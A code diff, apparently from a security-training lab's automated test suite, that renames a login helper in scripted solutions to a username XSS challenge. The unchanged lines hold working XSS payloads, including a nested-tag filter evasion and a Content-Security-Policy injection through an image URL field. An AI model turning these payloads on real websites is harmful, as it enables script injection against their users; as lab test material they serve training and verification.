@@ -1,5 +1,5 @@
 import type { Attack, Tools } from '#lab'
-import { ADDRESS, jim, NAME, type Session, send } from './steps.ts'
+import { ADDRESS, logInAsJim, NAME, type Session, send } from './steps.ts'
 
 const PAYLOAD = '<script>alert(`xss`)</script>'
 
@@ -18,7 +18,7 @@ export const attacks: Attack[] = [
     challenge: 'usernameXssChallenge',
     name: 'a name in a name, then a picture with a policy behind it',
     run: async (tools) => {
-      const session = await jim(tools)
+      const session = await logInAsJim(tools)
       await send(tools, session, '/profile', { username: NAME })
       await send(tools, session, '/profile/image/url', { imageUrl: ADDRESS })
       await expectAlert(tools, session)
@@ -28,7 +28,7 @@ export const attacks: Attack[] = [
     challenge: 'usernameXssChallenge',
     name: 'the picture first, with more hosts, and a script two filters deep',
     run: async (tools) => {
-      const session = await jim(tools)
+      const session = await logInAsJim(tools)
       const imageUrl = `${ADDRESS} https://code.getmdl.io http://ajax.googleapis.com`
       await send(tools, session, '/profile/image/url', { imageUrl })
       await send(tools, session, '/profile', { username: `${NAME} <<<a|aa|ascript>alert(\`xss\`)</script>` })
@@ -39,7 +39,7 @@ export const attacks: Attack[] = [
     challenge: 'usernameXssChallenge',
     name: 'a forbidden word that grows together again',
     run: async (tools) => {
-      const session = await jim(tools)
+      const session = await logInAsJim(tools)
       const words = "'unsafe-inline' 'unsafe-'unsafe-inline'inline'"
       await send(tools, session, '/profile', { username: NAME })
       await send(tools, session, '/profile/image/url', { imageUrl: `https://a.png; script-src ${words}` })
